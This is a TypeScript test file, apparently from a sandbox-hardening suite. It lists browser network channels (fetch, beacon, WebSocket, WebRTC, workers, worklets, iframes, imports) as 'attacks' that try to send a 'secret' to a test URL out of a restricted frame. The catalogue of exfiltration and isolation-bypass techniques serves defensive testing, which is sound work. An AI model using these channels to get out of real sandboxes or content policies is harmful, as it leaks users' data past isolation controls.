import {js, type Attack} from "./attack.ts";

const connect = {frame: {"connect-src": "*"}};
const media = {frame: {"media-src": "*"}};
const images = {frame: {"img-src": "* data: blob:"}};
const fonts = {frame: {"font-src": "* data:"}};
const scripts = {frame: {"script-src": "* blob: 'unsafe-inline' 'unsafe-eval'"}};
const workers = {frame: {"worker-src": "* blob:", "connect-src": "*"}};
const nested = {frame: {"frame-src": "* blob: data:", "script-src": "'unsafe-inline' 'unsafe-eval' blob: data:"}};
const webrtc = {bootstrap: ["webrtc"]} as const;

const loaded = (element: string) =>
  `await new Promise((resolve) => { const e = ${element}; e.onload = e.onerror = e.onloadeddata = resolve; document.body.append(e); setTimeout(resolve, 1500); });`;

/** Sends a STUN request: heard as UDP, or as a connection. */
const stun = (place: string) => `const peer = new ${place}({iceServers: [
  {urls: u.replace(/^http:\\/\\/([^/]*).*/, "stun:$1")},
  {urls: u.replace(/^http:\\/\\/([^/]*).*/, "turn:$1?transport=tcp"), username: "u", credential: "p"}]});
peer.createDataChannel("x");
peer.onicecandidate = ({candidate}) => candidate && won();
await peer.setLocalDescription(await peer.createOffer());
await new Promise((resolve) => setTimeout(resolve, 1000));`;

/** Every way that JavaScript has to send a byte. */
export const network: readonly Attack[] = [
  js("fetch", connect, `await fetch(u);`),
  js("fetch-post", connect, `await fetch(u, {method: "POST", mode: "no-cors", body: "secret"});`),
  js("fetch-keepalive", connect, `await fetch(u, {keepalive: true, mode: "no-cors"});`),
  js(
    "xhr",
    connect,
    `const x = new XMLHttpRequest(); x.open("GET", u); x.send(); await new Promise((r) => (x.onloadend = r));`
  ),
  js(
    "xhr-sync",
    {...connect, allow: "sync-xhr *"},
    `const x = new XMLHttpRequest(); x.open("GET", u, false); x.send();`
  ),
  js("beacon", connect, `navigator.sendBeacon(u, "secret");`),
  js(
    "websocket",
    connect,
    `const s = new WebSocket(u.replace("http", "ws")); await new Promise((r) => (s.onclose = s.onerror = r));`
  ),
  js(
    "eventsource",
    connect,
    `const s = new EventSource(u + ".event"); await new Promise((r) => (s.onopen = s.onerror = r)); s.close();`
  ),
  js("webtransport", webrtc, `const t = new WebTransport(u.replace("http:", "https:")); won(); await t.ready;`),
  js("webrtc", webrtc, stun("RTCPeerConnection")),
  js("webrtc-webkit", webrtc, stun("webkitRTCPeerConnection"), {
    unshown: {
      firefox: {
        reason: "Firefox has no webkitRTCPeerConnection",
        lacks: `typeof webkitRTCPeerConnection === "undefined" && typeof RTCPeerConnection === "function"`
      }
    }
  }),
  js(
    "webrtc-blank-frame",
    {bootstrap: ["origin"], sandbox: "allow-same-origin"},
    `const f = document.createElement("iframe"); document.body.append(f); ${stun("f.contentWindow.RTCPeerConnection")}`
  ),
  js(
    "webrtc-srcdoc",
    nested,
    `const f = document.createElement("iframe");
addEventListener("message", ({data}) => data === "webrtc-srcdoc" && won());
f.srcdoc = "<script>const p = new RTCPeerConnection(); p.createDataChannel('x'); p.onicecandidate = () => parent.postMessage('webrtc-srcdoc', '*'); p.createOffer().then((o) => p.setLocalDescription(o));<\\/script>";
document.body.append(f); await new Promise((resolve) => setTimeout(resolve, 1000));`
  ),
  js(
    "webrtc-blob-frame",
    nested,
    `const f = document.createElement("iframe");
addEventListener("message", ({data}) => data === "webrtc-blob" && won());
f.src = URL.createObjectURL(new Blob(["<script>const p = new RTCPeerConnection(); p.createDataChannel('x'); p.onicecandidate = () => parent.postMessage('webrtc-blob', '*'); p.createOffer().then((o) => p.setLocalDescription(o));<\\/script>"], {type: "text/html"}));
document.body.append(f); await new Promise((resolve) => setTimeout(resolve, 1000));`
  ),
  js(
    "webrtc-javascript-frame",
    nested,
    `const f = document.createElement("iframe");
addEventListener("message", ({data}) => data === "webrtc-javascript" && won());
f.src = "javascript:void(() => { const p = new RTCPeerConnection(); p.createDataChannel('x'); p.onicecandidate = () => parent.postMessage('webrtc-javascript', '*'); p.createOffer().then((o) => p.setLocalDescription(o)); })()";
document.body.append(f); await new Promise((resolve) => setTimeout(resolve, 1000));`,
    {
      unshown: {
        firefox: {
          reason: "Firefox runs no javascript: address in a frame whose origin is another opaque one",
          plain: {}
        }
      }
    }
  ),
  js(
    "webrtc-bootstrap-again",
    {bootstrap: ["webrtc"]},
    `const f = document.createElement("iframe");
addEventListener("message", ({data}) => data === "webrtc-again" && won());
f.srcdoc = "<script>" + document.querySelector("head script").textContent + "<\\/script>";
await new Promise((resolve) => { addEventListener("message", ({source}) => source === f.contentWindow && resolve()); document.body.append(f); setTimeout(resolve, 1000); });
const [requests, replies] = [new MessageChannel(), new MessageChannel()];
f.contentWindow.postMessage("zhibiao:ports", "*", [requests.port2, replies.port2]);
replies.port1.postMessage({style: "", script: "const p = new RTCPeerConnection(); p.createDataChannel('x'); p.onicecandidate = () => parent.postMessage('webrtc-again', '*'); p.createOffer().then((o) => p.setLocalDescription(o)); var zhibiao = {start() {}}"});
await new Promise((resolve) => setTimeout(resolve, 1000));`
  ),
  js("image", images, loaded(`Object.assign(new Image(), {src: u + ".png"})`)),
  js("image-srcset", images, loaded(`Object.assign(new Image(), {srcset: u + ".png 1x"})`)),
  js("image-decode", images, `const i = new Image(); i.src = u + ".png"; await i.decode();`),
  js("input-image", images, loaded(`Object.assign(document.createElement("input"), {type: "image", src: u + ".png"})`)),
  js("video-poster", images, loaded(`Object.assign(document.createElement("video"), {poster: u + ".png"})`)),
  js("video", media, loaded(`Object.assign(document.createElement("video"), {src: u, preload: "auto"})`)),
  js("audio", media, `new Audio(u).play();`),
  js(
    "track",
    media,
    `const v = document.createElement("video"); v.crossOrigin = "anonymous";
const t = Object.assign(document.createElement("track"), {src: u + ".vtt", default: true}); v.append(t); document.body.append(v); t.track.mode = "showing"; await new Promise((resolve) => setTimeout(resolve, 500));`
  ),
  js("font-face", fonts, `await new FontFace("x", "url(" + u + ")").load();`),
  js("script", scripts, loaded(`Object.assign(document.createElement("script"), {src: u + ".js"})`)),
  js(
    "script-module",
    scripts,
    loaded(`Object.assign(document.createElement("script"), {type: "module", src: u + ".js"})`)
  ),
  js("import", scripts, `await (0, eval)("import('" + u + ".js')");`),
  js("import-function", scripts, `await new Function("u", "return import(u)")(u + ".js");`),
  js(
    "worker-blob",
    {frame: {...workers.frame, "script-src": "* blob: 'unsafe-inline' 'unsafe-eval'"}},
    `const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + u + "', {mode: 'no-cors'}).finally(() => postMessage(1))"])));
await new Promise((resolve) => { w.onmessage = w.onerror = resolve; });`
  ),
  js(
    "worker-data",
    {frame: {"worker-src": "data:", "connect-src": "*", "script-src": "data: 'unsafe-inline' 'unsafe-eval'"}},
    `const w = new Worker("data:text/javascript,fetch('" + u + "',{mode:'no-cors'}).finally(()=>postMessage(1))");
await new Promise((resolve) => { w.onmessage = w.onerror = resolve; });`
  ),
  js("worklet", scripts, `await CSS.paintWorklet.addModule(u + ".js");`, {
    unshown: {firefox: {reason: "Firefox has no paint worklets", lacks: `CSS.paintWorklet === undefined`}}
  }),
  js("audio-worklet", scripts, `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(u + ".js");`),
  js("request-storage", connect, `await fetch(new Request(u, {method: "PUT", body: new Blob(["secret"])}));`),
  js(
    "xslt-document",
    connect,
    `const x = new XMLHttpRequest(); x.open("GET", u + ".svg"); x.responseType = "document"; await new Promise((r) => { x.onloadend = r; x.send(); });`
  ),
  js("wasm-streaming", connect, `await WebAssembly.compileStreaming(fetch(u));`)
];
